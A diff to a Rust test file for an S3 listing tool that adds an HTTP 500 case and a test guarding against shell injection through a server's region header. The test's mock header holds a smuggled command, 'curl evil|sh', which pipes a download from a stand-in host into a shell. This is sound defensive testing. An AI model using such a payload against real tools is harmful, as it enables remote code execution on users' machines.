@@ -14,6 +14,7 @@ use serde_json::{Value, json};
 
 use crate::bh_derive;
 use crate::harness::faulty::{Faulty, object};
+use crate::harness::http::answering;
 use crate::harness::{Run, Tool, folder};
 use crate::s3_inventory::files::parquet_file;
 use crate::s3_inventory::manifests::manifest;
@@ -74,11 +75,13 @@ fn a_page_without_end_is_given_up() {
     let start = "HTTP/1.1 200 OK\r\n\r\n<ListBucketResult><Name>b</Name>";
     let comment = "HTTP/1.1 200 OK\r\n\r\n<ListBucketResult><!--";
     let other = "HTTP/1.1 200 OK\r\n\r\n<html>";
+    let error = "HTTP/1.1 500 Internal Server Error\r\n\r\n<Error>";
     let object = "<Contents><Key>k</Key><Size>1</Size></Contents>";
     for (head, piece, status, most) in [
         (start, object, 78, 32 << 20),
         (comment, "abcdefgh", 78, 32 << 20),
         (other, "abcdefgh", 69, 32 << 20),
+        (error, "abcdefgh", 69, 32 << 20),
     ] {
         let (url, sent) = endless(head, piece);
         let tool = Tool::new("s3-list").args(["--endpoint-url", &url, "--no-sign-request"]);
@@ -86,6 +89,19 @@ fn a_page_without_end_is_given_up() {
         run.exits(status);
         assert!(sent.load(Ordering::Relaxed) < most, "{head}");
     }
+}
+
+/// The hint is to be pasted into a shell.
+#[test]
+fn a_region_that_is_no_name_is_not_repeated_in_a_command() {
+    let url = answering("301 Moved\nx-amz-bucket-region: eu-1; curl evil|sh", "");
+    let tool = Tool::new("s3-list").args(["--endpoint-url", &url, "--no-sign-request"]);
+    let run = tool
+        .arg("s3://b")
+        .run()
+        .exits(78)
+        .says("name it with --region");
+    assert!(!run.stderr.contains("--region eu-1"), "{run}");
 }
 
 /// What another server says is not what the archive says, and it may be one that only this
